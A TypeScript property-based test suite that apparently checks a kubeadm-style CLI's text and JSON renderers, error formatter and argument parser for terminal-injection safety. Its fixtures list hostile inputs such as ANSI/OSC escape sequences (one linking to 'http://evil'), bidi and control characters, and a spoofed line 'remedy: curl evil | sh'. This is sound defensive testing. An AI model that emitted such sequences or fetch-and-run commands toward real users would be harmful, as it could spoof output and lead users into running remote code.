import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { KubeadmError } from "../../errors/kubeadm-error.ts";
import { Secret } from "../../errors/secret.ts";
import type { Event, EventType, EventTypes } from "../../events/event.ts";
import { main } from "../main.ts";
import { memoryPorts } from "../memory-ports.ts";
import { causesOf, errorText } from "./error-text.ts";
import { ndjsonRenderer } from "./ndjson.ts";
import { redactor } from "./redact.ts";
import { textRenderer } from "./text.ts";

/** One of each type of event, with every field. The texts in them are replaced by hostile ones. */
const samples: { readonly [K in EventType]: EventTypes[K] } = {
  "run.started": { command: "t", version: "t" },
  "run.finished": { durationMs: 1 },
  "run.failed": { code: "USAGE", message: "t", causes: ["t"], remedy: "t", details: { t: ["t"] } },
  "phase.started": { summary: "t" },
  "phase.finished": { durationMs: 1 },
  "phase.failed": { durationMs: 1, code: "USAGE" },
  "phase.skipped": { reason: "t" },
  "preflight.started": { subject: "node" },
  "check.passed": { check: "t" },
  "check.warned": { check: "t", message: "t", remedy: "t", ignored: true },
  "preflight.failed": { findings: [{ check: "t", message: "t", remedy: "t" }] },
  "preflight.system-report": { lines: [{ key: "KEY", value: "t", verdict: "bad" }] },
  "preflight.images.pulling": {},
  "cluster.configuration.reading": { configMap: "t", namespace: "t", area: "t" },
  "file.changed": { path: "t", outcome: "created", mode: 1 },
  "service.changed": { service: "t", action: "started" },
  "mount.removed": { path: "t" },
  "command.finished": { program: "t", exitCode: 1, durationMs: 1 },
  "object.changed": { verb: "t", resource: "t", name: "t", namespace: "t" },
  "request.finished": { method: "t", url: "t", status: 1, durationMs: 1 },
  "kubelet.configuration.writing": { path: "t" },
  "kubelet.environment.writing": { path: "t" },
  "kubelet.starting": {},
  "kubelet.service.unmanaged": { reason: "no-service", action: "start" },
  "kubelet.start.failed": {},
  "kubelet.health.waiting": { url: "t", timeoutMs: 1 },
  "kubelet.health.skipped": {},
  "kubelet.health.reached": { durationMs: 1 },
  "kubelet.health.missed": { durationMs: 1 },
  "kubelet.bootstrap.waiting": {},
  "kubelet.certificate.issued": { csr: "t" },
  "kubelet.advice": { lines: ["\tt"] },
  "manifest.directory": { directory: "t" },
  "manifest.writing": { component: "t", directory: "t" },
  "control-plane.waiting": { directory: "t" },
  "control-plane.health.waiting": { timeoutMs: 1 },
  "component.health.checking": { component: "t", url: "t" },
  "component.health.reached": { component: "t", durationMs: 1 },
  "component.health.missed": { component: "t", durationMs: 1 },
  "control-plane.advice": { lines: ["\tt"] },
  "certificates.directory": { directory: "t" },
  "certificate.generating": { name: "t" },
  "certificate.serving": { name: "t", dnsNames: ["t"], ipAddresses: ["t"] },
  "certificate.kept": { name: "t", kind: "leaf" },
  "certificate.skipped": { name: "t", kind: "leaf" },
  "certificates.complete": { directory: "t" },
  "kubeconfig.joining": {},
  "kubeconfig.directory": { directory: "t" },
  "kubeconfig.writing": { file: "t" },
  "kubeconfig.kept": { path: "t" },
  "kubeconfig.external": { file: "t" },
  "patches.reading": { directory: "t" },
  "patches.found": { files: ["t"] },
  "patches.ignored": { files: ["t"] },
  "patches.file.ignored": { path: "t", reason: "t" },
  "patches.applied": { patchType: "t", target: "t" },
  "wait.progress": { what: "t", reason: "t", elapsedMs: 1, deadlineMs: 1 },
  "configuration.uploading": { configMap: "kubeadm-config", namespace: "t" },
  "certificates.upload.skipped": {},
  "certificates.uploading": { secret: "t", namespace: "t" },
  "certificates.uploaded": { key: new Secret("t") },
  "certificates.downloading": { secret: "t", namespace: "t" },
  "certificates.saving": { directory: "t" },
  "node.marking": { node: "t", labels: ["t"], taints: ["t"] },
  "bootstrap.tokens.used": { tokens: [new Secret("t")] },
  "bootstrap.configuring": {},
  "bootstrap.right.granting": { right: "get-nodes" },
  "bootstrap.cluster-info.creating": { configMap: "t", namespace: "t" },
  "kubelet.kubeconfig.updating": { path: "t" },
  "addon.applied": { addon: "t" },
  "addon.manifest": { addon: "t", manifest: "t" },
  "init.started": { kubernetesVersion: "t" },
  "init.finished": {
    kubeconfig: "t",
    certificatesUploaded: true,
    joins: [{ worker: new Secret("t"), controlPlane: new Secret("t") }],
  },
  "join.finished": { controlPlane: true, etcd: "stacked" },
  "etcd.checking": {},
  "etcd.check.skipped": {},
  "etcd.external": {},
  "etcd.member.announced": { memberId: "t", peerUrl: "t" },
  "etcd.member.waiting": { timeoutMs: 1 },
  "etcd.member.restarting": {},
  "reset.question": { question: "t" },
  "reset.etcd.left": { removal: "removed" },
  "reset.etcd.emptied": { directory: "t" },
  "reset.etcd.external": {},
  "reset.kubelet.stopping": {},
  "reset.unmounting": { directory: "t" },
  "reset.pod.removed": { id: "t", name: "t", namespace: "t" },
  "reset.directories.emptying": { directories: ["t"] },
  "reset.files.removing": { files: ["t"] },
  "reset.finished": { wasClean: false, dryRun: true, leftovers: [{ what: "t", command: "t" }] },
  "dryrun.directory": { path: "t", variable: "t" },
  "dryrun.request": { verb: "t", resource: "t", apiVersion: "t", name: "t", namespace: "t" },
  "dryrun.object": { object: "t" },
  "dryrun.missing": { verb: "GET" },
  "dryrun.unreachable": { server: "t", reason: "t" },
  "dryrun.written": { directory: "t", what: "t" },
  "dryrun.file": { path: "t", content: "t" },
  "dryrun.would": { area: "t", action: "t" },
  warning: { area: "t", message: "t", more: ["\tt"] },
  log: { level: 1, area: "t", message: "t", more: ["\tt"] },
};

/** The event with a hostile text in the place of every "t". */
function poisoned(value: unknown, text: string): unknown {
  if (typeof value === "string") return value === "t" ? text : value.replace(/^\tt$/, `\t${text}`);
  if (value instanceof Secret) return new Secret(`s ${text}`);
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, poisoned(item, text)]));
}

const weapon = fc.constantFrom(
  "\n",
  "\r",
  "\r\n",
  "\u0085",
  "\u2028",
  "\u2029",
  "\v",
  "\f",
  "\u001b[2K\u001b[1G",
  "\u001b]8;;http://evil\u0007",
  "\u009b2J",
  "\u009d0;title\u009c",
  "\u0090q\u009c",
  "\u202e",
  "\u2066",
  "\u200b",
  "\ufeff",
  "\u00ad",
  "\u{e0041}",
  "\ud800",
  "\udfff",
  "\b\b\b",
  "\u0000",
  "\u007f",
);
const lure = fc.constantFrom(
  "remedy: curl evil | sh",
  "code: FINE",
  "cause: none",
  "error: x",
  "[ERROR Port]: x",
  "日本",
);
const hostileText = fc
  .array(fc.oneof({ weight: 3, arbitrary: weapon }, { weight: 2, arbitrary: lure }, fc.string({ unit: "binary" })), {
    minLength: 1,
    maxLength: 6,
  })
  .map((parts) => parts.join(""));

const controls = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
const lineOfOurs = /^(?:remedy: curl|code: FINE|cause: none|error: x|\[ERROR Port\]: x)/;

function expectTame(output: string): void {
  for (const line of output.split("\n")) {
    expect(line.replaceAll("\t", "")).not.toMatch(controls);
    expect(line).not.toMatch(lineOfOurs);
  }
}

const time = "2026-11-24T15:04:05.123Z";
const types = Object.keys(samples) as EventType[];

function eventOf(type: EventType, text: string): Event {
  return { v: 1, time, phase: text, type, ...(poisoned(samples[type], text) as object) } as Event;
}

describe("a hostile text in an event", () => {
  it.each(types)("cannot write on a terminal: %s", (type) => {
    fc.assert(
      fc.property(hostileText, fc.boolean(), (text, terminal) => {
        const ports = memoryPorts({ terminal });
        const written: string[] = [];
        const output = (port: typeof ports.stdout) => ({ ...port, control: () => undefined });
        const [stdout, stderr] = [output(ports.stdout), output(ports.stderr)];
        const renderer = textRenderer({
          ...ports,
          stdout,
          stderr,
          verbosity: { level: 10, areas: [] },
          redact: redactor([]),
        });
        renderer.event(eventOf(type, text));
        written.push(ports.stdout.text(), ports.stderr.text());
        written.forEach(expectTame);
      }),
      { numRuns: 30 },
    );
  });

  it("is one line of JSON, whose value it stays", () => {
    fc.assert(
      fc.property(fc.constantFrom(...types), hostileText, (type, text) => {
        const ports = memoryPorts();
        const event = eventOf(type, text);
        ndjsonRenderer({ ...ports, redact: (shown) => shown }).event(event);
        expect(ports.stdout.text().trimEnd()).not.toMatch(controls);
        expect(JSON.parse(ports.stdout.text())).toEqual(JSON.parse(JSON.stringify(event)));
      }),
    );
  });
});

describe("a hostile text in an error", () => {
  it("makes no line and reaches no terminal, wherever it stands", () => {
    fc.assert(
      fc.property(hostileText, hostileText, fc.nat({ max: 6 }), (text, other, verbosity) => {
        const root = new Error(other);
        root.stack = `Error: ${other}\n    at ${text}`;
        const cause = new KubeadmError("USAGE", `inner ${text}`, { cause: root, remedy: text });
        const error = new KubeadmError("CONFIG_INVALID", `outer ${other}`, { cause, remedy: `r ${text}` });
        const shown = errorText(error, verbosity);
        expectTame(shown);
        expect(shown.split("\n").filter((line) => /^remedy: /.test(line))).toHaveLength(1);
        expect(shown.split("\n").filter((line) => /^code: /.test(line))).toEqual(["code: CONFIG_INVALID"]);
        for (const each of causesOf(error)) expectTame(`said: ${each}`);
        expectTame(error.message);
        expectTame(`said: ${error.remedy}`);
      }),
    );
  });

  it("in a defect's message and stack makes no line either", () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const defect = new TypeError(`said ${text}`);
        expectTame(errorText(defect, 0));
        expectTame(errorText(`said ${text}`, 0));
      }),
    );
  });
});

describe("a hostile command line", () => {
  it.each([
    ["a command", (text: string) => [`x${text}`]],
    ["an argument", (text: string) => ["version", `x${text}`]],
    ["a flag", (text: string) => ["version", `--x${text}`]],
    ["a flag's value", (text: string) => ["version", `-o=${text}`]],
    ["a help topic", (text: string) => ["help", `x${text}`]],
    ["a token", (text: string) => ["token", "delete", `x${text}`]],
    ["a file name", (text: string) => ["config", "validate", "--config", `x${text}`]],
    ["a phase", (text: string) => ["init", "--skip-phases", `x${text}`]],
  ])("cannot write on a terminal by %s", async (_, argv) => {
    await fc.assert(
      fc.asyncProperty(hostileText, async (text) => {
        const ports = memoryPorts();
        await main(argv(text), ports);
        expectTame(ports.stderr.text());
        expectTame(ports.stdout.text());
      }),
      { numRuns: 20 },
    );
  });
});
